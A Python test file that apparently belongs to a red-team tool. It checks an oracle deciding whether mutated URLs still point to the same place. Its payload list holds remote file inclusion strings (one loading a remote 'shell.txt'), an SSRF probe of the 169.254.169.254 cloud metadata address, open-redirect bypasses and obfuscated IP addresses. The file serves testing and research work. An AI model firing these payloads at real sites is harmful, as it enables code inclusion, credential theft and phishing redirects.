"""Addresses are proved the same by reading both as servers and browsers do."""

from __future__ import annotations

import csv
import gzip
from collections import Counter
from pathlib import Path
from random import Random
from typing import Any

import pytest

from overproof.redteam.mutate.url import MUTATORS
from overproof.redteam.oracle.url import judge

PAYLOADS = [
    "/modules/users/headerfile.php?system[path]=XXpathXX",
    "/admin/inc/add.php?format_menue=XXpathXX",
    "/index.php?file_name[]=XXpathXX?",
    "/view_func.php?i=XXpathXX&l=testfile.txt?",
    "/config.php?a[x]=1&a[y]=XXpathXX&b=2",
    "/online.php?config[root]=XXpathXX?&cmd=id",
    "/help.php?path=XXpathXX%00",
    "/open.php?config%5bdir%5d=XXpathXX?",
    "/?page=-1&content=http://203.0.113.9/shell.txt",
    "/show.php?page=https%3A%2F%2Fexample.com%2Fx",
    "/redirect?url=/\\/example.com&next=/\\/example.com",
    "/fetch?url=http://169.254.169.254/latest/meta-data/",
    "//example.com",
    "///example.com/",
    "////www.example.org@example.com/%2f..",
    "//example.com/%2e%2e%2f",
    "https://example.com/",
    "https:///www.example.org@example.com/%2e%2e",
    "http:www.example.org@0xcb007109",
    "http:3H6k7@203.0.113.9",
    "http://0313.0x0.28937",
    "http://[::ffff:203.0.113.9]",
    "http://example.com:80?@www.example.org/",
    "https://%09/www.example.org@example.com",
    "/%5cexample.com",
    "/%09/example.com",
    "///%5cexample.com",
    "/https://example.com/%2f..",
    "/https:example.com",
    "\\/\\/example.com/",
    "/\\example.com",
    "//example%E3%80%82com",
    "http://127.0.0.1:8080/admin?token=1#top",
    "http://user:word@192.0.2.1/",
]
PROVED_AT_LEAST = 0.95


def _meanings(pairs: list[tuple[str, str]]) -> Counter[str]:
    return Counter(proof.meaning for proof in judge(pairs))


def test_chains_of_edits_are_proved_and_never_lead_elsewhere(chains: Any) -> None:
    meanings = _meanings(chains(PAYLOADS * 15, MUTATORS, 6, Random(14)))
    assert meanings["changed"] == 0
    assert meanings["proved"] >= PROVED_AT_LEAST * meanings.total() > 400


@pytest.mark.parametrize(("family", "least"), [("rfi", 0.99), ("open-redirect", 0.9)])
def test_chains_of_edits_of_real_payloads(chains: Any, shared_data: Path, family: str, least: float) -> None:
    with gzip.open(shared_data / "http" / "train.csv.gz", "rt", encoding="utf-8", newline="") as rows:
        payloads = [row["text"] for row in csv.DictReader(rows) if row["family"] == family]
    meanings = _meanings(chains(Random(3).sample(payloads, min(300, len(payloads))), MUTATORS, 4, Random(14)))
    assert meanings["changed"] == 0
    assert meanings["proved"] >= least * meanings.total() > 100


@pytest.mark.parametrize(
    ("original", "edited"),
    [
        ("/a.php?p=XXpathXX", "/b.php?p=XXpathXX"),
        ("/a.php?p=XXpathXX", "//a.php?p=XXpathXX"),
        ("/a.php?p=XXpathXX", "/a.php?q=XXpathXX"),
        ("/a.php?p=XXpathXX", "/a.php?p=XXpathXX&p=garden"),
        ("/a.php?p=XXpathXX&c=id", "/a.php?p=XXpathXX#&c=id"),
        ("/a.php?p=XXpathXX", "/a.php?p=XXpathXX&debug=%2e"),
        ("/a.php?p[x]=1&p[y]=XXpathXX", "/a.php?p[y]=XXpathXX&p[x]=1"),
        ("/a.php?p=http://example.com", "/a.php?p=http%253A//example.com"),
        ("//example.com", "//example.org"),
        ("//example.com", "/example.com"),
        ("//example.com", "//example.com.garden"),
        ("//example.com", "//example.com:8080"),
        ("http://example.com/", "https://example.com/"),
        ("http://example.com/", "http://example.com:443/"),
        ("http://example.com/a", "http://example.com/a/"),
        ("http://example.com/a?b=1", "http://example.com/a?b=2"),
        ("http://203.0.113.9", "http://203.0.113.010"),
        ("//user@example.com", "//example.com@user"),
        ("/https://example.com", "/garden/https://example.com"),
    ],
)
def test_another_place_is_seen(original: str, edited: str) -> None:
    assert judge([(original, edited)])[0].meaning == "changed"


@pytest.mark.parametrize(
    ("original", "edited"),
    [
        ("/index.php?page=3", "/index.php?page=3&garden=summer"),  # no attack
        ("garden", "garden"),
        ("", ""),
        ("//javascript:alert(1)", "//javascript:alert(1)#garden"),  # a port that is none
        ("http://a<b", "http://a<c"),
        ("//example.com", "http://example.com"),  # https from a page over https
        ("//user@example.com", "//garden@example.com"),
    ],
)
def test_what_is_no_attack_or_hangs_on_the_page_is_unproved(original: str, edited: str) -> None:
    assert judge([(original, edited)])[0].meaning == "unproved"


@pytest.mark.parametrize(
    ("original", "edited"),
    [
        ("/a/b.php?p=XXpathXX", "/garden/../a//./%62.php?garden=summer&%70=XXpathXX"),
        ("/a?p=XXpathXX&c=id", "/a?c=id&p=XXpathXX"),
        ("http://example.com", "HTTP:\\\\EXAMPLE.com:80/x/..?garden=summer#rose"),
        ("http://127.0.0.1/", "http://0x7f.1/"),
        ("//example.com", "///ex\tample.com"),
        ("//user@example.com", "//user:garden@ex%61mple.com"),
        ("/%5cexample.com", "/%5Cexample.com#garden"),
    ],
)
def test_the_same_place_is_proved(original: str, edited: str) -> None:
    assert judge([(original, edited)])[0].meaning == "proved"
